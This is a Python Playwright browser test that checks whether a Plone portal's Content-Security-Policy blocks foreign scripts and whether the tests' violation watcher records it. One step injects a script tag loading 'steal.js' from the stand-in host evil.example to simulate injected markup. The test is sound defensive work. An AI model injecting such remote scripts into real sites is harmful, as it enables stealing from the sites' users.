"""The portal's Content-Security-Policy in real Chromium: the browser tests' watch
(``conftest.watch_csp``) sees what the policy blocks, so that their "no violations"
means something."""

from e2e.conftest import watch_csp
from playwright.sync_api import expect

from helpers import site_url


def test_the_policy_blocks_foreign_scripts_and_the_watch_sees_it(chromium, functional):
    context = chromium.new_context(locale="sv-SE")
    violations = watch_csp(context)
    try:
        page = context.new_page()
        page.goto(site_url(functional))
        expect(page.locator("body")).to_be_visible()
        assert violations == []  # Plone's own page works under the policy
        # A script from elsewhere, as injected markup would load it.
        page.evaluate(
            """() => {
              const script = document.createElement("script");
              script.src = "https://evil.example/steal.js";
              document.head.appendChild(script);
            }"""
        )
        page.wait_for_timeout(500)
        assert any("script-src" in v and "evil.example" in v for v in violations), (
            violations
        )
    finally:
        context.close()
